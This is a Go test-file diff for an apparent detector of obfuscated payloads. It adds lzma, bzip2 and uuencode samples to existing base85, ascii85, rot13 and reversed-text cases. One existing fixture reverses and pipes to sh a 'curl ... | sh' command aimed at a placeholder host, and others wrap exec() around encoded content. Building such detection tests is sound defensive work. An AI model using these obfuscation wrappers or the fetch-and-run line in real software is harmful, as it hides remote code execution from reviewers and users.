@@ -181,6 +181,9 @@ func samples() []unwraptest.Sample {
 		sample("base85-zlib", "exec(zlib.decompress(base64.b85decode(\"", base85(zlibbed(raw)), "\")))\n", "base85+zlib", hidden),
 		sample("ascii85", "exec(a85decode(r'''", strings.ReplaceAll(string(ascii), "'", `\'`), "'''))\n", "ascii85", hidden),
 		sample("ascii85-adobe", "exec(a85decode(\"", "<~"+strings.ReplaceAll(string(ascii), `"`, `\"`)+"~>", "\", adobe=True))\n", "ascii85", hidden),
+		sample("lzma", "x='", lzmaText, "'\n", "base64+lzma", hidden),
+		sample("bzip2", "x='", bzip2Text, "'\n", "base64+bzip2", hidden),
+		sample("uuencode", "uudecode <<EOF\nbegin 755 file\n", uuencoded(raw), "`\nend\nEOF\n", "uuencode", hidden),
 		sample("text-reversed", "echo '", turn("curl -s http://a.example/x | sh -s"), "' | rev | sh\n", "reversed", "curl -s http://a.example/x | sh -s"),
 		{
 			Name: "rot13", Kind: trust.KindScript, Content: []byte("exec(codecs.decode('" + rot13("import os; os.nice(1)") + "', 'rot13'))\n"),
@@ -195,6 +198,36 @@ func samples() []unwraptest.Sample {
 			Want: map[string]string{"base64@17": hidden},
 		},
 	}
+}
+
+// lzmaText and bzip2Text are what hides, packed by the libraries of these names.
+const (
+	lzmaText = "XQAAgAD//////////wARiEJGPfQWNHMKDY+X5kjpgrIvp7sZBjq+Q0Nn+7H6ZsKzqzwMKuc0xKcH1rgTqiwK+2c88pF2dHdy4x9RA4TRuxqyGF+sRDdEywPgzqLh" +
+		"z8tsWsdPRnbksP+tvuAA"
+	bzip2Text = "QlpoOTFBWSZTWZpcTpsAAAlRgAAQaAK/59/AIABIinppDR4SaemoZCKe0o9Q2iH6oYgWLKkProu9Uo8jBGaRgKAPmLAe0LQvhzPL1XBMS9XTsGrqSgRT47zz9H1C" +
+		"kRpVeGDUhrqPxdyRThQkJpcTpsA="
+)
+
+func uuencoded(b []byte) string {
+	var out strings.Builder
+	for len(b) > 0 {
+		line := b[:min(45, len(b))]
+		b = b[len(line):]
+		out.WriteByte(byte(' ' + len(line)))
+		for len(line) > 0 {
+			var g [3]byte
+			n := copy(g[:], line)
+			line = line[n:]
+			for _, v := range []byte{g[0] >> 2, g[0]<<4&63 | g[1]>>4, g[1]<<2&63 | g[2]>>6, g[2] & 63} {
+				if v == 0 {
+					v = '`' - ' '
+				}
+				out.WriteByte(' ' + v)
+			}
+		}
+		out.WriteByte('\n')
+	}
+	return out.String()
 }
 
 // pythonLiteral is what Python prints for bytes.
@@ -322,6 +355,7 @@ func TestLong(t *testing.T) {
 		{"hex", "x='" + hex.EncodeToString(elf) + "'\n", "hex@3"},
 		{"escapes", "x='" + each(elf, `\x%02x`) + "'\n", "escapes@3"},
 		{"numbers", "x={" + each(elf, "0x%02x, ") + "}\n", "numbers@3"},
+		{"uuencode", "uudecode <<EOF\nbegin 755 f\n" + uuencoded(elf) + "`\nend\n", "uuencode@27"},
 		{"base85", "b85decode('" + base85(elf) + "')\n", "base85@11"},
 		{"noise-before", lines(b64(noise(400000, 8)), 76, "", "\n") + "x='" + coded + "'\n", fmt.Sprintf("base64@%d", len(lines(b64(noise(400000, 8)), 76, "", "\n"))+3)},
 	} {
